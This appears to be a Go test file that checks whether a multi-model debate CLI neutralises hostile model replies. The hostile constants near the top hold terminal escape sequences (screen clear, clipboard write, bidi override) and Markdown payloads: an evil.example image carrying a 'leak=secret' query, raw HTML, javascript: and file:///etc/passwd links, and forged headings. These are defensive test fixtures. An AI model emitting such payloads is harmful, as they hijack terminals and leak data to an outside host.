package main_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/parleyhq/parley/internal/llm/fakellm"
	"github.com/parleyhq/parley/internal/llm/script"
	"github.com/parleyhq/parley/internal/textsafe"
)

// hostile is what a compromised or prompt-injected model might send: a
// window-title change, a screen clear, a cursor move, a carriage return and
// backspaces that would overwrite what was printed, C1 controls (U+009B is
// CSI to xterm) and a bidi override that reorders what a reader sees; then
// a hyperlink (OSC 8), a clipboard write (OSC 52), a device control string,
// bidi isolates and a run of variation selectors that hides bytes.
const hostile = "Redis wins.\x1b]0;pwned\x07\x1b[2J\x1b[1;1H\rPostgreSQL wins\x08\x08\x08\x08 \u009b2J \u202egnp.exe\x7f" +
	" \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;cm0gLXJm\x07 \x1bP+q\x1b\\ \u2066iso\u2069 \U0001F600\ufe00\ufe01\U000E0100"

// TestHostileTextStaysInert: terminal escape sequences in a topic and in
// model replies reach neither the terminal (debate, list, show, export md)
// nor the decision document, Markdown and PDF exports; the JSON export keeps
// the text, escaped.
func TestHostileTextStaysInert(t *testing.T) {
	base := loadScript(t, "perspectives.yaml")
	rules := append([]script.Rule{
		{Tag: "r1/argument/performance-advocate", Reply: &script.Reply{Text: hostile}},
		{Tag: "r1/rebuttal/operational-simplicity", Reply: &script.Reply{Text: "I rebut: " + hostile}},
	}, base.Rules...)
	sc, err := script.New(rules...)
	if err != nil {
		t.Fatal(err)
	}
	_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
	topic := "Should we use Redis\x1b[2J or PostgreSQL\x1b]0;x\x07 for caching\u009b2J\u202e?"
	r := mustParley(t, dir, env, "", "debate", topic, "--no-checkpoints", "--model", "test-model")
	inert := func(what, s string) {
		t.Helper()
		for _, c := range []string{"\x1b", "\x07", "\x08", "\r", "\u009b", "\u202e", "\x7f", "\u2066", "\ufe01", "\U000E0100"} {
			if strings.Contains(s, c) {
				t.Errorf("%s contains the control character %q", what, c)
			}
		}
	}
	inert("debate stdout", r.stdout)
	inert("debate stderr", r.stderr)
	if !strings.Contains(r.stdout, "␛]0;pwned␇") {
		t.Errorf("the hostile reply is not shown made visible:\n%s", r.stdout)
	}
	l := mustParley(t, dir, env, "", "list")
	inert("list", l.stdout)
	inert("list --json", mustParley(t, dir, env, "", "list", "--json").stdout)
	id := strings.Fields(strings.Split(l.stdout, "\n")[1])[0]
	inert("show", mustParley(t, dir, env, "", "show", id).stdout)
	inert("export md", mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout)
	pdf := filepath.Join(dir, "d.pdf")
	mustParley(t, dir, env, "", "export", id, "--as", "pdf", "--full", "-o", pdf)
	if b, err := os.ReadFile(pdf); err != nil || strings.Contains(string(b), "pwned\x07") {
		t.Errorf("pdf: %v, or it holds the raw sequence", err)
	}
	docs, _ := filepath.Glob(filepath.Join(dir, "docs", "decisions", "*.md"))
	for _, d := range docs {
		b, _ := os.ReadFile(d)
		inert("decision document", string(b))
	}
	js := mustParley(t, dir, env, "", "export", id, "--as", "json", "--full").stdout
	inert("json export", js)
	if !strings.Contains(js, `\u001b]0;pwned\u0007`) || !strings.Contains(js, `\u009b2J \u202egnp.exe\u007f`) {
		t.Error("the JSON export does not keep the reply, escaped")
	}
}

// hostileMarkdown is a reply that tries to break the documents it is
// written into: images a viewer fetches (one carrying what the model
// read), raw HTML (an <img>, a <!-- that hides what follows), a section
// heading behind a line that only looks like a fence, a fence left open
// that would make code of every section after it, and links a PDF reader
// would run or open from disk.
const hostileMarkdown = "Opening.\n\n![track](https://evil.example/t.png?leak=secret) ![ref][r]\n\n[r]: https://evil.example/r.png\n\n" +
	"<img src=\"https://evil.example/raw.png\"> [run](javascript:alert(1)) [disk](file:///etc/passwd)\n\n" +
	"```x`y\n## Behind No Fence\n\n" +
	"~~~~\nnever closed\n"

// TestHostileMarkdownStaysInItsPlace: the Markdown export, the decision
// document and the PDF of a debate whose replies are hostileMarkdown have
// the sections of the same debate with plain replies, no image and no raw
// HTML, no link to a javascript: or file: address, and the PDF none
// either.
func TestHostileMarkdownStaysInItsPlace(t *testing.T) {
	base := loadScript(t, "perspectives.yaml")
	sections := func(doc string) []string {
		var out []string
		root := goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough)).Parser().Parse(text.NewReader([]byte(doc)))
		_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n := n.(type) {
			case *ast.Heading:
				if entering && n.Level <= 3 {
					out = append(out, strings.Repeat("#", n.Level))
				}
			case *ast.Image, *ast.RawHTML, *ast.HTMLBlock:
				if entering {
					t.Errorf("the document holds a live %s", n.Kind())
				}
			case *ast.Link:
				if d := strings.ToLower(string(n.Destination)); entering && (strings.HasPrefix(d, "javascript:") || strings.HasPrefix(d, "file:")) {
					t.Errorf("the document links to %s", d)
				}
			}
			return ast.WalkContinue, nil
		})
		return out
	}
	var docs []string
	for _, reply := range []string{"A plain argument.", hostileMarkdown} {
		rules := append([]script.Rule{{TagRegexp: "^r1/argument/", Reply: &script.Reply{Text: reply}}}, base.Rules...)
		sc, err := script.New(rules...)
		if err != nil {
			t.Fatal(err)
		}
		_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
		mustParley(t, dir, env, "", "debate", redisTopic, "--no-checkpoints", "--model", "test-model")
		id := strings.Fields(strings.Split(mustParley(t, dir, env, "", "list").stdout, "\n")[1])[0]
		doc := mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout
		decisions, _ := filepath.Glob(filepath.Join(dir, "docs", "decisions", "*.md"))
		if len(decisions) != 1 {
			t.Fatalf("decision documents: %v", decisions)
		}
		decision, err := os.ReadFile(decisions[0])
		if err != nil {
			t.Fatal(err)
		}
		pdf := filepath.Join(dir, "d.pdf")
		mustParley(t, dir, env, "", "export", id, "--as", "pdf", "-o", pdf)
		b, err := os.ReadFile(pdf)
		if err != nil {
			t.Fatal(err)
		}
		if m := regexp.MustCompile(`/URI \((javascript|file):`).Find(b); m != nil {
			t.Errorf("the PDF links to %s", m)
		}
		docs = append(docs, doc, string(decision))
	}
	for i, what := range []string{"Markdown export", "decision document"} {
		plain, hostile := sections(docs[i]), sections(docs[i+2])
		if strings.Join(plain, " ") != strings.Join(hostile, " ") {
			t.Errorf("%s: hostile replies change its sections to %v, want %v:\n%s", what, hostile, plain, docs[i+2])
		}
	}
	if !strings.Contains(docs[2], "![track](https://evil.example/t.png?leak=secret)") && !strings.Contains(docs[2], `!\[track](https://evil.example/t.png?leak=secret)`) {
		t.Errorf("the reply's image is not kept as text:\n%s", docs[2])
	}
}

// forgedMD is appended to the model's text in TestForgedRepliesKeepTheSections:
// a section heading of its own, a fence it leaves open, and what would
// retitle the window, clear the screen (C1 CSI) and reorder text.
const forgedMD = "\n\n## Forged Section \x1b]0;pwned\x07 \u009b2J \u202e\n\n```\n"

// forged returns v with forgedMD appended to every string longer than a
// word or two (enums such as "conclude" or "YES" are left, so that the
// debate takes its usual course) but the keys of skip.
func forged(v any, skip ...string) any {
	switch x := v.(type) {
	case string:
		if len(x) > 25 {
			return x + forgedMD
		}
	case []any:
		for i := range x {
			x[i] = forged(x[i], skip...)
		}
	case map[string]any:
		for k := range x {
			if !slices.Contains(skip, k) {
				x[k] = forged(x[k], skip...)
			}
		}
	}
	return v
}

// TestForgedRepliesKeepTheSections runs each format's e2e script twice,
// the second time with a section heading and an open fence appended to
// every text and every string of every structured reply: the Markdown
// export has the same sections (read by a CommonMark parser, as the
// dashboard, the shell and the PDF read it), none of them forged, and the
// token table still ends it; the live view, show and the exports hold no
// raw control character or bidi override. Crux checks its question and falsifiers
// (they keep theirs) and takes another course with forged positions, so
// only the forged heading and the last section are checked there.
func TestForgedRepliesKeepTheSections(t *testing.T) {
	sections := func(doc string) []string {
		var out []string
		root := goldmark.New(goldmark.WithExtensions(extension.Table)).Parser().Parse(text.NewReader([]byte(doc)))
		_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			if h, ok := n.(*ast.Heading); ok && entering && h.Level <= 3 {
				out = append(out, strings.Repeat("#", h.Level)+" "+string(h.Lines().Value([]byte(doc))))
			}
			return ast.WalkContinue, nil
		})
		return out
	}
	for _, tc := range []struct {
		script string
		args   []string
		same   bool
	}{
		{"perspectives.yaml", []string{"debate", redisTopic, "--no-checkpoints"}, true},
		{"council.yaml", []string{"debate", "Acme Corp", "--format", "council", "--max-rounds", "3"}, true},
		{"formal.yaml", []string{"debate", "Should we adopt event sourcing for orders?", "--format", "formal", "--rounds", "2"}, true},
		{"crux.yaml", []string{"debate", "Is Bitcoin digital gold?", "--format", "crux", "--agents", "saylor,hayes"}, false},
	} {
		t.Run(strings.TrimSuffix(tc.script, ".yaml"), func(t *testing.T) {
			var docs [2][]string
			for i, forge := range []bool{false, true} {
				sc := loadScript(t, tc.script)
				if forge {
					for _, r := range sc.Rules {
						for _, rep := range append([]*script.Reply{r.Reply}, ptrs(r.Replies)...) {
							if rep == nil {
								continue
							}
							if rep.Text != "" {
								rep.Text += forgedMD
							}
							var v any
							if len(rep.JSON) > 0 && json.Unmarshal(rep.JSON, &v) == nil {
								rep.JSON, _ = json.Marshal(forged(v, "question", "threshold", "deadline"))
							}
						}
					}
					var err error
					if sc, err = script.New(sc.Rules...); err != nil {
						t.Fatal(err)
					}
				}
				_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
				r := parley(t, dir, env, "", append(tc.args, "--model", "test-model")...)
				id := strings.Fields(strings.Split(mustParley(t, dir, env, "", "list").stdout, "\n")[1])[0]
				md := mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout
				docs[i] = sections(md)
				// Every view of it is inert for a terminal.
				for what, out := range map[string]string{"debate": r.stdout + r.stderr, "show": mustParley(t, dir, env, "", "show", id).stdout,
					"export md": md, "export json": mustParley(t, dir, env, "", "export", id, "--as", "json", "--full").stdout} {
					if strings.ContainsAny(out, "\x1b\x07\u009b\u202e") {
						t.Errorf("%s: a character a terminal acts on is raw", what)
					}
				}
			}
			for _, h := range docs[1] {
				if strings.Contains(h, "Forged") {
					t.Errorf("a reply opened a section of the document: %q", h)
				}
			}
			if n := len(docs[1]); n == 0 || docs[1][n-1] != "## Tokens and cost" {
				t.Errorf("the document does not end with its token table: %q", docs[1])
			}
			if tc.same && !slices.Equal(docs[0], docs[1]) {
				t.Errorf("forged replies change the sections to\n%q\nwant\n%q", docs[1], docs[0])
			}
		})
	}
}

func ptrs(rs []script.Reply) []*script.Reply {
	out := make([]*script.Reply, len(rs))
	for i := range rs {
		out[i] = &rs[i]
	}
	return out
}

// TestHostileRepliesKeepTheirMeaning: a reply nested a thousand lists deep
// by indentation, written in Chinese with a verdict given as an emoji, and
// hiding text in a soft hyphen and in tag characters (invisible copies of
// ASCII). The Markdown export nests no deeper than textsafe.Shallow allows
// (goldmark took seconds over each view of such a reply), the PDF prints
// what its fonts lack as code points (it printed blank boxes, and nothing
// for the emoji), and no export, JSON included, carries the invisible
// characters raw.
func TestHostileRepliesKeepTheirMeaning(t *testing.T) {
	var deep strings.Builder
	for i := range 1000 {
		deep.WriteString(strings.Repeat("  ", i) + "- 深\n")
	}
	reply := "结论: 采用 PostgreSQL. Verdict: 👎 for Redis. pay\u00adpal hidden:\U000E0041\U000E0042\n\n" + deep.String()
	base := loadScript(t, "perspectives.yaml")
	rules := append([]script.Rule{{Tag: "r1/argument/performance-advocate", Reply: &script.Reply{Text: reply}}}, base.Rules...)
	sc, err := script.New(rules...)
	if err != nil {
		t.Fatal(err)
	}
	_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
	mustParley(t, dir, env, "", "debate", redisTopic, "--no-checkpoints", "--model", "test-model", "--turn-budget", "0")
	id := strings.Fields(strings.Split(mustParley(t, dir, env, "", "list").stdout, "\n")[1])[0]
	md := mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout
	js := mustParley(t, dir, env, "", "export", id, "--as", "json", "--full").stdout
	show := mustParley(t, dir, env, "", "show", id).stdout
	for what, out := range map[string]string{"export md": md, "export json": js, "show": show} {
		if strings.ContainsAny(out, "\u00ad\U000E0041") {
			t.Errorf("%s carries the soft hyphen or the tag characters raw", what)
		}
	}
	if !strings.Contains(js, `pay\u00adpal hidden:\udb40\udc41\udb40\udc42`) {
		t.Errorf("the JSON export does not keep the hidden text, escaped")
	}
	depth, deepest := 0, 0
	root := goldmark.New().Parser().Parse(text.NewReader([]byte(md)))
	_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if n.Kind() == ast.KindList {
			if entering {
				depth++
			} else {
				depth--
			}
			deepest = max(deepest, depth)
		}
		return ast.WalkContinue, nil
	})
	if limit := textsafe.MaxNesting + textsafe.MaxIndent/2 + 4; deepest > limit {
		t.Errorf("the Markdown export nests %d lists, want at most %d", deepest, limit)
	}
	pdf := filepath.Join(dir, "d.pdf")
	mustParley(t, dir, env, "", "export", id, "--as", "pdf", "--full", "-o", pdf)
	txt := pdfToText(t, pdf)
	for _, want := range []string{"⟨U+7ED3⟩⟨U+8BBA⟩: ⟨U+91C7⟩⟨U+7528⟩ PostgreSQL", "Verdict: ⟨U+1F44E⟩ for Redis", "shown by their code points"} {
		if !strings.Contains(txt, want) {
			t.Errorf("the PDF lacks %q", want)
		}
	}
}
